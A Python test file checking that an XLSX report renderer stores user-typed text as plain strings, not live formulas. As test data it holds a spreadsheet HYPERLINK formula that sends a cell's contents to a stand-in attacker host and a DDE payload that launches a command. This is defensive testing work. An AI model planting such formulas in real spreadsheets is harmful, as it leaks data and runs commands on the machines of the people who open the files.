"""Text a user typed (a display name, a jury's reason) never becomes a formula in the XLSX."""

from __future__ import annotations

import io
from datetime import UTC, datetime

import openpyxl

from questionnaire.reports.render_xlsx import render_xlsx
from questionnaire.reports.tables import Column, Kind, Report, Section, Table

FORMULA = '=HYPERLINK("https://attaquant.example/?d="&A1,"Voir")'


def _report() -> Report:
    table = Table(
        name="candidats",
        title="Candidats",
        columns=(
            Column("name", FORMULA),
            Column("score", "Score", Kind.INT),
            Column("why", "Motif"),
        ),
        rows=((FORMULA, 12, "+cmd|' /C calc'!A0"), ("Camille", 15, "#N/A")),
    )
    return Report(
        kind="session",
        title=FORMULA,
        scope=FORMULA,
        generated_at=datetime(2026, 3, 1, tzinfo=UTC),
        fingerprint="0" * 64,
        sections=(Section("s", FORMULA, paragraphs=(FORMULA,), tables=(table,)),),
        warnings=(FORMULA,),
    )


def test_every_string_cell_is_stored_as_text():
    workbook = openpyxl.load_workbook(io.BytesIO(render_xlsx(_report())))
    strings = [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]
    assert sum(cell.value == FORMULA for cell in strings) == 7  # kept as typed, cover to rows
    assert {cell.data_type for cell in strings} == {"s"}
    sheet = workbook["Candidats"]
    assert (sheet["A1"].value, sheet["A2"].value, sheet["C3"].value) == (FORMULA, FORMULA, "#N/A")
    assert sheet["B2"].value == 12 and sheet["B2"].data_type == "n"  # numbers stay numbers
